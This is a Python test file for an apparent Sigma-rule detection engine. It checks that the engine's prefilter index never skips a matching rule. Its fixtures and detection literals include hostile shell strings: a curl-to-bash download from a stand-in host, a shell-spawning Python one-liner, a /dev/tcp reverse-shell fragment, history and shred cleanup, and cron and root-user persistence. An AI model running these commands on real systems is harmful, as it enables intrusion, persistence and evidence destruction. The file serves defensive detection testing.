"""The engine's index only skips rules that cannot match: on events built from the rules'
own literals (the hard cases for a prefilter), `SigmaEngine` returns exactly the rules
whose compiled predicate holds when every rule of the logsource is tried."""

from __future__ import annotations


import pytest
from needs import requires_shared, shared_path
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sigma_event_spec import build_event
from vigil.events.model import Event, FdInfo, Process
from vigil.rules.ast import Compare, ListValue, Value, walk
from vigil.rules.sigma import SigmaEngine, load_sigma_paths
from vigil.rules.sigma.logsource import SYSCALL
from vigil.rules.sigma.prefilter import (literal_rank, necessary_keys,
                                         specialize_event_type)

SIGMA_LINUX = shared_path("rules", "sigma", "linux")
pytestmark = requires_shared("rules", "sigma", "linux")

# without the shared data every test here skips (a failure under VIGIL_REQUIRE=shared)
RESULT = load_sigma_paths([SIGMA_LINUX] if SIGMA_LINUX.is_dir() else [])
ENGINE = SigmaEngine(RESULT.rules)


def _literals() -> list[str]:
    out: set[str] = set()
    for r in RESULT.rules:
        for n in walk(r.condition):
            if isinstance(n, Compare) and isinstance(n.value, Value):
                out.add(n.value.text)
            elif isinstance(n, Compare) and isinstance(n.value, ListValue):
                out.update(i.text for i in n.value.items)
    return sorted(t for t in out if t and "\x00" not in t and not t.startswith("(?s)"))


LITERALS = _literals()
lit = st.sampled_from(LITERALS)
noise = st.sampled_from(["-x", "/tmp/a", "foo", "--bar=1", "|", ";", "'", "AA", "/usr/bin/"])
piece = st.one_of(lit, lit.map(str.upper), noise)


def brute_force(event: Event) -> list[str]:
    """Every rule of the event's logsource, predicate evaluated directly."""
    out = []
    for r in RESULT.rules:
        if not r.route.applies(event.source, event.type):
            continue
        if event.source == SYSCALL and r.event_types is not None \
                and event.type not in r.event_types:
            continue
        if r.predicate(event):
            out.append(r.rule_id)
    return out


def engine_ids(event: Event) -> list[str]:
    return [d.rule_id for d in ENGINE.on_event(event)]  # type: ignore[misc]


def _proc(draw, args: list[str], exe: str) -> Process:
    exepath = exe if exe.startswith("/") else "/usr/bin/" + exe.strip("/")
    argv0 = draw(st.one_of(lit, st.just(exepath)))
    parent = Process(name=draw(piece)[:15], exepath=draw(lit), args=[draw(piece)])
    return Process(pid=7, name=exepath.rsplit("/", 1)[-1][:15], exe=argv0, exepath=exepath,
                   args=args, user="root", euid=draw(st.sampled_from([0, 33, 1000])),
                   cwd="/", parent=parent)


@st.composite
def events(draw) -> Event:
    args = draw(st.lists(piece, min_size=1, max_size=5))
    exe = draw(st.one_of(lit, st.sampled_from(["/usr/bin/bash", "/tmp/x", "/bin/dd"])))
    proc = _proc(draw, args, exe)
    kind = draw(st.sampled_from(["exec", "write", "read", "connect", "log", "syscall"]))
    if kind == "exec":
        return Event(type=draw(st.sampled_from(["execve", "execveat"])), res=0, proc=proc)
    if kind in ("write", "read"):
        path = draw(st.one_of(lit, st.sampled_from(["/etc/cron.d/x", "/tmp/.x"])))
        flags = 0o1101 if kind == "write" else 0
        return Event(type="openat", res=3, proc=proc, args={"name": path, "flags": flags},
                     fd=FdInfo(num=3, type="file", name=path))
    if kind == "connect":
        ip, port = draw(st.sampled_from([("203.0.113.5", 4444), ("127.0.0.1", 80),
                                         ("10.1.2.3", 2222)]))
        return Event(type="connect", res=0, proc=proc, fd=FdInfo(
            type="ipv4", rip=ip, rport=port, lip="10.0.0.2", lport=5000, role="client"))
    if kind == "log":
        return Event(type="auth.log", source="auth", raw=" ".join(args), proc=Process(
            name=draw(st.sampled_from(["sshd", "cron", "sudo", "kernel"]))))
    etype = draw(st.sampled_from(["sysinfo", "mknod", "personality", "syslog", "unlinkat",
                                  "mkdirat", "finit_module"]))
    return Event(type=etype, res=0, proc=proc, args={"path": draw(lit)})


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(events())
def test_index_never_hides_a_match(event):
    assert engine_ids(event) == brute_force(event)


def test_fixture_style_events_agree_with_brute_force():
    specs = [
        {"exec": "python3 -c \"import os; os.system('/bin/sh')\"", "exepath": "/usr/bin/python3.11"},
        {"exec": "sh -c 'curl -s http://x/x.sh | bash'", "exepath": "/usr/bin/dash"},
        {"log": "useradd[9]: new user: name=x, UID=0, GID=0, home=/root", "program": "useradd"},
        {"write": "/etc/cron.d/evil"}, {"read": "/etc/os-release"},
        {"syscall": "personality", "args": {"persona": 0x40000}},
    ]
    for spec in specs:
        ev = build_event(spec)
        assert engine_ids(ev) == brute_force(ev)
    assert any(engine_ids(build_event(s)) for s in specs)


def test_prepared_engine_finds_what_a_lazy_one_finds():
    """`prepare` builds the syscall buckets up front (the live agent); same matches."""
    ready = SigmaEngine(RESULT.rules)
    assert ready.prepare({"execve", "openat", "personality"}) == 3
    assert ready.prepare({"execve"}) == 0
    for spec in ({"exec": "sh -c 'curl -s http://x/x.sh | bash'", "exepath": "/usr/bin/dash"},
                 {"write": "/etc/cron.d/evil"},
                 {"syscall": "personality", "args": {"persona": 0x40000}}):
        ev = build_event(spec)
        assert sorted(r.rule_id for r in ready.candidates(ev)) == sorted(
            r.rule_id for r in ENGINE.candidates(ev))
        assert [d.rule_id for d in ready.on_event(ev)] == [d.rule_id for d in ENGINE.on_event(ev)]
    assert ready.on_event(build_event({"write": "/etc/cron.d/evil"}))


@pytest.mark.parametrize("keys,rank", [
    ({"bash -i >& /dev/tcp/"}, 1),
    ({"history -c", "shred "}, 1),
    ({":", "@"}, 2),            # in almost every log line
    ({"/tmp/", "xmrig"}, 2),    # one common word makes the whole set weak
    ({" bash"}, 2),
])
def test_literal_rank_marks_short_and_common_literals_weak(keys, rank):
    assert literal_rank(frozenset(keys)) == rank


def test_short_literals_lose_to_a_selective_one_inside_an_and():
    # "Remote File Copy": (scp |rsync |sftp ) and (@ or :) must be keyed on the tools
    rule = next(r for r in RESULT.rules if r.title == "Remote File Copy")
    keys = necessary_keys(specialize_event_type(rule.condition, "execve"))
    assert keys is not None and {k for _kind, k in keys.keys} == {"scp ", "rsync ", "sftp "}
